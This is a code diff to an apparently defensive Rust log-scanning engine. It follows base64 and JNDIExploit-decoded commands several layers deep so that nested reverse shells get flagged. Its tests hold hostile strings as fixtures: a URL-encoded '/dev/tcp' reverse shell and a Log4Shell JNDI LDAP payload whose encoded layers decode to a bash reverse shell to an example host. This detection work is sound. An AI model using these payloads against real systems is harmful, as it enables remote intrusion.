@@ -23,6 +23,10 @@ const DECODE_TRIGGERS: &[&str] = &[
 pub const EXCERPT_MAX: usize = 300;
 /// Bytes of decoded text shown at most.
 const DECODED_MAX: usize = 600;
+/// Layers of decoded commands followed (a command decoded from a command ...).
+const MAX_COMMAND_DEPTH: usize = 3;
+/// Decoded commands evaluated per record at most.
+const MAX_DECODED_COMMANDS: usize = 16;
 
 /// Compiled rules, shared by `&` across workers.
 #[derive(Debug)]
@@ -45,7 +49,8 @@ pub struct RecordMatch {
     /// The decoded record around the match, when decoding changed it.
     pub decoded: Option<String>,
     pub jndi: Option<JndiInfo>,
-    /// Commands decoded from base64 blobs or JNDIExploit paths.
+    /// Commands decoded from base64 blobs or JNDIExploit paths (for a hit found inside a
+    /// decoded command: that command).
     pub commands: Vec<String>,
 }
 
@@ -122,20 +127,38 @@ impl Engine {
     }
 
     /// Confirm every rule on one record; at most one match per rule. Commands decoded from
-    /// the record (base64 blobs, JNDIExploit paths) are matched too, so the reverse shell a
-    /// JNDI payload carries is reported as such.
+    /// the record (base64 blobs, JNDIExploit paths) are matched too, layer after layer, so the
+    /// reverse shell a JNDI payload carries is reported as such. A match whose rule is
+    /// superseded by another match of the record is dropped.
     pub fn evaluate(&self, record: &[u8]) -> Vec<RecordMatch> {
         let mut out = self.evaluate_once(record);
-        let commands: Vec<String> = out.iter().flat_map(|m| m.commands.clone()).collect();
-        for c in commands {
+        // Decoded commands may carry another layer (a JNDIExploit path holding
+        // `bash -c {echo,<b64>}|{base64,-d}|{bash,-i}`): follow them a few layers deep.
+        let mut pending: Vec<(String, usize)> =
+            out.iter().flat_map(|m| m.commands.clone()).map(|c| (c, 1)).collect();
+        let mut seen = 0;
+        while let Some((c, depth)) = pending.pop() {
+            seen += 1;
+            if seen > MAX_DECODED_COMMANDS {
+                break;
+            }
             for mut m in self.evaluate_once(c.as_bytes()) {
+                if depth < MAX_COMMAND_DEPTH {
+                    pending.extend(m.commands.iter().map(|n| (n.clone(), depth + 1)));
+                }
                 if !out.iter().any(|o| o.rule == m.rule) {
                     m.decoded = Some(crate::model::excerpt(c.as_bytes(), 0, 0, DECODED_MAX));
                     m.span = (0, 0);
+                    if m.commands.is_empty() {
+                        // The hit is in this decoded command: its indicators come from it.
+                        m.commands.push(c.clone());
+                    }
                     out.push(m);
                 }
             }
         }
+        let hit: Vec<&str> = out.iter().map(|m| self.rules[m.rule].id.as_str()).collect();
+        out.retain(|m| !hit.iter().any(|id| self.rules[m.rule].is_superseded_by(id)));
         out
     }
 
@@ -289,6 +312,20 @@ mod tests {
         assert!(ids(&e, "GET /x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4242%200%3E%261")
             .contains(&"shell.reverse.dev-tcp".to_string()));
         assert!(ids(&e, "plain text without anything").is_empty());
+    }
+
+    #[test]
+    fn nested_decoded_commands_are_followed_and_carry_the_command() {
+        let e = Engine::builtin().unwrap();
+        // JNDIExploit path -> `bash -c {echo,<b64>}|{base64,-d}|{bash,-i}` -> /dev/tcp shell.
+        let line = "x=${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/YmFzaCAtYyB7ZWNobyxZbUZ6YUNBdGFTQStKaUF2WkdWMkwzUmpjQzh5TURNdU1DNHhNVE11TmpZdk5EUTBOQ0F3UGlZeH18e2Jhc2U2NCwtZH18e2Jhc2gsLWl9}";
+        let found = e.evaluate(line.as_bytes());
+        let rev = found
+            .iter()
+            .find(|m| e.rules()[m.rule].id == "shell.reverse.dev-tcp")
+            .expect("reverse shell two layers down");
+        assert_eq!(rev.commands, vec!["bash -i >& /dev/tcp/203.0.113.66/4444 0>&1".to_string()]);
+        assert!(!found.iter().any(|m| e.rules()[m.rule].id == "shell.interactive"));
     }
 
     #[test]
